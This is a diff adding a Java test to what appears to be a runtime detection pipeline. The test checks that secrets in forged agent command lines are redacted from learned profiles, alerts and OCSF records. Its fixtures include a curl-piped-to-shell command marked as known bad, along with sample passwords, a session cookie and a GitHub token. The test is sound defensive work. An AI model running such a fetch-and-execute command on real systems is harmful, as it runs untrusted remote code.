@@ -254,4 +254,61 @@ class EdgePipelineTest {
       assertEquals(150, meters.get("tripline.dead.letters").counter().count());
     }
   }
+
+  /**
+   * Issue 21 (9): an old or forged agent sends command lines with secrets in them. The edge redacts
+   * them with the agent's rules before anything is learned or alerted on: the secrets are in no
+   * profile target, no alert (protobuf) and no OCSF record.
+   */
+  @Test
+  void aForgedUnredactedCommandLineIsRedactedBeforeProfileAlertAndOcsf(
+      EmbeddedKafka kafka, @TempDir Path dir) throws Exception {
+    SimpleMeterRegistry meters = new SimpleMeterRegistry();
+    List<String> secrets =
+        List.of(
+            "Sh0rtT0k",
+            "Hunt3r2",
+            "X9q",
+            "s3ss",
+            "t1ger",
+            "ghp_R2d2C3poBb8Yy7Zz6Xx5Ww4Vv3Uu2Tt1Ss0Q");
+    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h");
+        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters);
+        var ocsf = PipelineFixtures.consumer(kafka, f.config.get("topic.alerts.json"))) {
+      f.send(
+          "shop",
+          spawn("/bin/sh", "-c", "curl -s https://h?token=Sh0rtT0k | sh"), // known bad: alerts
+          spawn("mysql", "-uroot", "-pHunt3r2", "orders"),
+          spawn("/bin/sh", "-c", "sudo -u db mysql -pX9q orders"),
+          spawn("curl", "-b", "session=s3ss", "https://api.internal/x"),
+          spawn("sqlplus", "scott/t1ger@db"),
+          spawn("git", "clone", "https://ghp_R2d2C3poBb8Yy7Zz6Xx5Ww4Vv3Uu2Tt1Ss0Q@github.com/o/r"));
+      List<String> json = new ArrayList<>();
+      await()
+          .atMost(WAIT)
+          .until(
+              () -> {
+                for (ConsumerRecord<String, byte[]> r : ocsf.poll(Duration.ofMillis(200))) {
+                  json.add(new String(r.value(), StandardCharsets.UTF_8));
+                }
+                return !f.alerts().isEmpty()
+                    && !json.isEmpty()
+                    && p.backend().profile("shop").map(s -> s.getEntriesCount() >= 3).orElse(false);
+              });
+      String profile = p.backend().profile("shop").orElseThrow().toString();
+      String alerts = f.alerts().toString();
+      for (String secret : secrets) {
+        assertTrue(!profile.contains(secret), secret + " learned into the profile: " + profile);
+        assertTrue(!alerts.contains(secret), secret + " in an alert: " + alerts);
+        assertTrue(
+            json.stream().noneMatch(j -> j.contains(secret)),
+            secret + " on the OCSF topic: " + json);
+      }
+      assertTrue(alerts.contains("token=<redacted>"), alerts);
+      assertTrue(
+          json.stream().anyMatch(j -> j.contains("token=\\u003Credacted>")), json.toString());
+      assertTrue(profile.contains("<redacted>"), profile);
+      assertEquals(6, count(meters, "tripline.values.clamped", "field", "secret"));
+    }
+  }
 }
